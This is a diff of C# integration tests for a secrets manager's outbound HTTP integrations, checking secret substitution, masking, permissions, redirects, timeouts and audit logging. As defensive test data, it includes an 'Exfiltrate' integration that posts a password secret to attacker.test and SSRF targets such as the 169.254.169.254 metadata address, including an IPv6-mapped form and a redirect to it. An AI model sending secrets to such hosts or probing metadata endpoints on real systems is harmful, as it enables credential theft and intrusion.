@@ -5,6 +5,7 @@ using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using Ziggy.Secrets.Tests.Support;
 using Ziggy.Secrets.Web.Accounts;
+using Ziggy.Secrets.Web.Audit;
 using Ziggy.Secrets.Web.Crypto;
 using Ziggy.Secrets.Web.Integrations;
 
@@ -52,33 +53,6 @@ public class IntegrationRunTests : IAsyncLifetime
 
     private long Decrypts => _app.Services.GetRequiredService<ISecretCipher>().DecryptCount;
 
-    /// <summary>Creates an integration through the real form; answers its id (or the page with errors).</summary>
-    private static async Task<(Guid? Id, IHtmlDocument Page)> SaveIntegrationAsync(TestSession session, string name, string method, string url, string headers = "", string body = "")
-    {
-        var page = await session.GetPageAsync("/Integrations/Edit");
-        page.AssertEveryFieldLabelled();
-        var response = await session.SubmitAsync(page.Form("#integration-form"), new()
-        {
-            ["Input.Name"] = name, ["Input.Method"] = method, ["Input.Url"] = url, ["Input.Headers"] = headers, ["Input.Body"] = body,
-        });
-        if (response.StatusCode == HttpStatusCode.Redirect)
-        {
-            var location = response.Headers.Location!.ToString();
-            var id = Guid.Parse(location[(location.IndexOf("id=", StringComparison.Ordinal) + 3)..]);
-            return (id, await session.GetPageAsync(location));
-        }
-
-        return (null, await TestSession.ParseAsync(response));
-    }
-
-    private static async Task<IHtmlDocument> RunAsync(TestSession session, Guid id, string environment)
-    {
-        var page = await session.GetPageAsync($"/Integrations/Edit?id={id}");
-        var response = await session.SubmitAsync(page.Form("form.run-form"), new() { ["environment"] = environment }, htmx: true);
-        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
-        return await TestSession.ParseAsync(response);
-    }
-
     private string EchoUrl => _stub.BaseUrl + "/echo";
 
     private static string? QueryValue(StubRequest request, string name) =>
@@ -87,11 +61,11 @@ public class IntegrationRunTests : IAsyncLifetime
     [Fact]
     public async Task Run_Development_StubGetsRealValuesWhileEverythingShownOrStoredIsMasked()
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Charge", "POST",
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Charge", "POST",
             EchoUrl + "?key={{secrets.API_KEY}}", "Authorization: Bearer {{secrets.TOKEN}}\nX-Api-Key: {{ secrets.API_KEY }}", "{{secrets.PASSWORD}}");
         var before = Decrypts;
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
         // The stub got the real values.
         var received = Assert.Single(_stub.Received);
@@ -127,10 +101,10 @@ public class IntegrationRunTests : IAsyncLifetime
     public async Task Run_AnyMemberOfTheOrganization_MayRunASavedIntegration()
     {
         await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Ping", "GET", EchoUrl + "?t={{secrets.TOKEN}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Ping", "GET", EchoUrl + "?t={{secrets.TOKEN}}");
         using var mia = await _app.SignInAsync("mia@acme.test");
 
-        var result = await RunAsync(mia, id!.Value, "Staging");
+        var result = await IntegrationsUi.RunAsync(mia, id!.Value, "Staging");
 
         Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
         Assert.Equal(Token + "-stg", QueryValue(Assert.Single(_stub.Received), "t"));
@@ -141,10 +115,10 @@ public class IntegrationRunTests : IAsyncLifetime
     [Fact]
     public async Task Run_ProductionWithAMissingValue_IsRefusedBeforeAnyNetworkCall()
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Prod call", "POST", EchoUrl, "Authorization: {{secrets.TOKEN}}", "{{secrets.PASSWORD}} {{secrets.API_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Prod call", "POST", EchoUrl, "Authorization: {{secrets.TOKEN}}", "{{secrets.PASSWORD}} {{secrets.API_KEY}}");
         var before = Decrypts;
 
-        var result = await RunAsync(_olivia, id!.Value, "Production");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Production");
 
         Assert.Equal("No Production value for: TOKEN, API_KEY. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
         Assert.Empty(_stub.Received);
@@ -155,17 +129,56 @@ public class IntegrationRunTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task Run_UnknownSecretName_IsRefusedAndTheEditorFlagsIt()
+    public async Task Save_UnknownSecretName_IsRefusedNamingIt()
     {
-        var (id, page) = await SaveIntegrationAsync(_olivia, "Typo", "GET", EchoUrl + "?k={{secrets.API_KEI}}&t={{secrets.TOKEN}}");
+        var (id, page) = await IntegrationsUi.SaveAsync(_olivia, "Typo", "GET", EchoUrl + "?k={{secrets.API_KEI}}&t={{secrets.TOKEN}}&x={{secrets.NOPE}}");
+
+        Assert.Null(id);
+        Assert.Contains("No secret is named API_KEI, NOPE: create it first, or correct the reference.", page.FormError());
         var row = page.QuerySelector("[data-testid=references] tr[data-secret=API_KEI]")!;
         Assert.Contains("No secret with this name", row.TextContent);
         var token = page.QuerySelector("[data-testid=references] tr[data-secret=TOKEN]")!.QuerySelectorAll("td").Select(c => c.TextContent.Trim()).ToList();
         Assert.Equal(["TOKEN", "Yes", "Yes", "No"], token.Take(4));
+        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
+    }
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+    [Fact]
+    public async Task Run_SecretRenamedAfterTheSave_IsRefusedAsUnknownBeforeAnyNetworkCall()
+    {
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Renamed", "GET", EchoUrl + "?k={{secrets.API_KEY}}&t={{secrets.TOKEN}}");
+        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());
+        await SecretsUi.SaveAsync(_olivia, secretId, new() { ["Input.Name"] = "API_KEY_OLD" });
 
-        Assert.Equal("Unknown secrets: API_KEI. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("Unknown secrets: API_KEY. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        Assert.Empty(_stub.Received);
+    }
+
+    [Fact]
+    public async Task Save_WholeUrlFromASecret_IsAcceptedAndRunsThere()
+    {
+        await SecretsUi.CreateAsync(_olivia, "WEBHOOK", "", development: EchoUrl + "?via=webhook");
+
+        var (id, page) = await IntegrationsUi.SaveAsync(_olivia, "Webhook", "POST", "{{secrets.WEBHOOK}}", "", "{{secrets.TOKEN}}");
+        Assert.True(id is not null, page.FormError());
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        var received = Assert.Single(_stub.Received);
+        Assert.Equal("webhook", QueryValue(received, "via"));
+        Assert.Equal(Token, received.Body);
+    }
+
+    [Fact]
+    public async Task Run_UrlThatIsNotHttpAfterSubstitution_IsRefusedBeforeAnyNetworkCall()
+    {
+        await SecretsUi.CreateAsync(_olivia, "BASE", "", development: "ftp://files.example.test/drop");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Base", "GET", "{{secrets.BASE}}/x?k={{secrets.TOKEN}}");
+
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Contains("not an absolute http:// or https:// URL", result.QuerySelector("[data-testid=run-error]")!.TextContent);
         Assert.Empty(_stub.Received);
     }
 
@@ -191,10 +204,10 @@ public class IntegrationRunTests : IAsyncLifetime
         await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
         using var mia = await _app.SignInAsync("mia@acme.test");
 
-        var (id, page) = await SaveIntegrationAsync(mia, "Exfiltrate", "POST", "https://attacker.test/collect", "", "{{secrets.PASSWORD}}");
+        var (id, page) = await IntegrationsUi.SaveAsync(mia, "Exfiltrate", "POST", "https://attacker.test/collect", "", "{{secrets.PASSWORD}}");
 
         Assert.Null(id);
-        Assert.Contains("You may not use secret PASSWORD in an integration: only its owner (Olivia Owner) or an Admin may reference it.", page.FormError());
+        Assert.Contains("This integration is owned by Mia Member, who may not change PASSWORD.", page.FormError());
         Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
     }
 
@@ -204,7 +217,7 @@ public class IntegrationRunTests : IAsyncLifetime
         var mia = await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
         using var miaSession = await _app.SignInAsync("mia@acme.test");
         await SecretsUi.CreateAsync(miaSession, "MIA_KEY", "", development: "mia-dev-value-123");
-        var (id, _) = await SaveIntegrationAsync(miaSession, "Mine", "GET", EchoUrl + "?k={{secrets.MIA_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(miaSession, "Mine", "GET", EchoUrl + "?k={{secrets.MIA_KEY}}");
         Assert.NotNull(id);
 
         // Olivia (an admin) takes the secret over: Mia may no longer use it, even in her saved integration.
@@ -212,9 +225,10 @@ public class IntegrationRunTests : IAsyncLifetime
         var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
         await _olivia.SubmitAsync(editor.Form("form.transfer"), new() { ["newOwnerId"] = _owner.Id.ToString() }, htmx: true);
 
-        var result = await RunAsync(miaSession, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(miaSession, id!.Value, "Development");
 
-        Assert.Contains("This integration's owner may not use secret MIA_KEY", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Equal("This integration is owned by Mia Member, who may not change MIA_KEY. Nothing was sent.",
+            result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
         Assert.Empty(_stub.Received);
         Assert.NotEqual(Guid.Empty, mia.Id);
     }
@@ -222,49 +236,72 @@ public class IntegrationRunTests : IAsyncLifetime
     [Theory]
     [InlineData("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local")]
     [InlineData("http://[fe80::1]/", "link-local")]
-    public async Task Run_LinkLocalTarget_IsAlwaysRefused(string url, string reason)
+    [InlineData("http://[64:ff9b::a9fe:a9fe]/", "169.254.169.254")]
+    public async Task Run_LinkLocalTarget_IsAlwaysRefusedSayingWhatNotWhere(string url, string auditDetail)
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Metadata", "GET", url, "X-Key: {{secrets.API_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Metadata", "GET", url, "X-Key: {{secrets.API_KEY}}");
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
-        var error = result.QuerySelector("[data-testid=run-error]")!.TextContent;
-        Assert.StartsWith("Refused to connect:", error.Trim());
-        Assert.Contains(reason, error);
+        Assert.Equal("The destination is not a public address.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        Assert.DoesNotContain("169.254", result.Body!.TextContent);
+        var audit = await _app.WithDbAsync(db => db.AuditEvents.Where(e => e.Action == AuditAction.IntegrationRun).Select(e => e.Details).SingleAsync());
+        Assert.Contains(auditDetail, audit);
     }
 
     [Fact]
     public async Task Run_RedirectToARefusedAddress_IsNotFollowed()
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Bouncer", "GET",
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Bouncer", "GET",
             _stub.BaseUrl + "/redirect?to=" + Uri.EscapeDataString("http://169.254.169.254/latest/"), "X-Key: {{secrets.API_KEY}}");
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
-        Assert.Contains("Refused to connect: 169.254.169.254 is a link-local", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Equal("HTTP 302", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Equal(IntegrationHttpClient.LeftOriginMessage, result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
         Assert.Single(_stub.Received);
     }
 
-    [Fact]
-    public async Task Run_RedirectToAnotherOrigin_DoesNotCarryTheTemplateHeaders()
+    [Theory]
+    [InlineData("GET", 302)]
+    [InlineData("POST", 307)]
+    [InlineData("PUT", 308)]
+    public async Task Run_RedirectToAnotherOrigin_IsNotFollowedAndTheOtherOriginHearsNothing(string method, int status)
     {
         await using var other = await StubServer.StartAsync();
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Hop", "GET",
-            _stub.BaseUrl + "/redirect?to=" + Uri.EscapeDataString(other.BaseUrl + "/echo"), "Authorization: Bearer {{secrets.TOKEN}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Hop", method,
+            _stub.BaseUrl + $"/redirect?status={status}&to=" + Uri.EscapeDataString(other.BaseUrl + "/echo?k={{secrets.API_KEY}}"),
+            "Authorization: Bearer {{secrets.TOKEN}}", "{{secrets.PASSWORD}}");
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
-        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Equal($"HTTP {status}", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Equal(IntegrationHttpClient.LeftOriginMessage, result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
         Assert.Equal("Bearer " + Token, Assert.Single(_stub.Received).Headers["Authorization"]);
-        Assert.False(Assert.Single(other.Received).Headers.ContainsKey("Authorization"));
+        Assert.Empty(other.Received);
+        Assert.Contains("Location: " + other.BaseUrl + "/echo?k=", result.QuerySelector("[data-testid=run-headers]")!.TextContent);
+        foreach (var canary in new[] { ApiKey, Token, Password }) _app.AssertNeverRevealed(canary);
+    }
+
+    [Fact]
+    public async Task Run_OutboundRequest_CarriesOnlyTheTemplateHeadersAndWhatHttpNeeds()
+    {
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Plain", "POST", EchoUrl, "X-Key: {{secrets.API_KEY}}", "{{secrets.PASSWORD}}");
+        using var activity = new System.Diagnostics.Activity("incoming request").Start();
+
+        await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
+
+        var received = Assert.Single(_stub.Received);
+        Assert.Equal(["Content-Length", "Content-Type", "Host", "User-Agent", "X-Key"], received.Headers.Keys.Order(StringComparer.OrdinalIgnoreCase));
+        Assert.StartsWith("Ziggy-Secrets/", received.Headers["User-Agent"]);
     }
 
     [Fact]
     public async Task Run_SlowServer_TimesOutWithAClearMessage()
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Slow", "GET", _stub.BaseUrl + "/slow", "X-Key: {{secrets.API_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Slow", "GET", _stub.BaseUrl + "/slow", "X-Key: {{secrets.API_KEY}}");
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
         Assert.Equal("The request timed out after 2 seconds.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
     }
@@ -272,9 +309,9 @@ public class IntegrationRunTests : IAsyncLifetime
     [Fact]
     public async Task Run_OversizedResponse_ReadsOnlyOneMiBAndSaysSo()
     {
-        var (id, _) = await SaveIntegrationAsync(_olivia, "Big", "GET", _stub.BaseUrl + "/big?k={{secrets.API_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Big", "GET", _stub.BaseUrl + "/big?k={{secrets.API_KEY}}");
 
-        var result = await RunAsync(_olivia, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");
 
         Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
         Assert.Contains("larger than 1 MiB: only the first 1 MiB were read", result.QuerySelector("[data-testid=run-error]")!.TextContent);
@@ -290,19 +327,22 @@ public class IntegrationRunTests : IAsyncLifetime
         await strict.SetUpAsync();
         using var session = await strict.SignInAsync("owner@acme.test");
         await SecretsUi.CreateAsync(session, "API_KEY", "", development: ApiKey);
-        var (id, _) = await SaveIntegrationAsync(session, "Local", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
+        var (id, _) = await IntegrationsUi.SaveAsync(session, "Local", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
 
-        var result = await RunAsync(session, id!.Value, "Development");
+        var result = await IntegrationsUi.RunAsync(session, id!.Value, "Development");
 
-        Assert.Contains("127.0.0.1 is a loopback address", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Equal("The destination is not a public address.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        Assert.DoesNotContain("127.0.0.1", result.Body!.TextContent);
+        var audit = await strict.WithDbAsync(db => db.AuditEvents.Where(e => e.Action == AuditAction.IntegrationRun).Select(e => e.Details).SingleAsync());
+        Assert.Contains("127.0.0.1 is a loopback address", audit);
         Assert.Empty(_stub.Received);
     }
 
     [Fact]
     public async Task SecretEditor_ShowsUsedByAndTheDeleteDialogWarns()
     {
-        await SaveIntegrationAsync(_olivia, "Charge", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
-        await SaveIntegrationAsync(_olivia, "Refund", "POST", EchoUrl, "", "{{secrets.API_KEY}}");
+        await IntegrationsUi.SaveAsync(_olivia, "Charge", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
+        await IntegrationsUi.SaveAsync(_olivia, "Refund", "POST", EchoUrl, "", "{{secrets.API_KEY}}");
         var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());
 
         var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
@@ -316,7 +356,7 @@ public class IntegrationRunTests : IAsyncLifetime
     }
 
     [Theory]
-    [InlineData("Input.Url", "ftp://x.test/", "Input_Url-error", "Enter an absolute http:// or https:// URL.")]
+    [InlineData("Input.Url", "ftp://x.test/", "Input_Url-error", "Enter an absolute http:// or https:// URL (a secret may hold all of it, or its base, host or port).")]
     [InlineData("Input.Url", "", "Input_Url-error", "Enter the URL to call, for example https://api.example.com/v1/charges.")]
     [InlineData("Input.Headers", "not a header line", "Input_Headers-error", "Line 1 is not a header: write one \"Name: value\" per line.")]
     [InlineData("Input.Name", "", "Input_Name-error", "Enter a name for the integration.")]
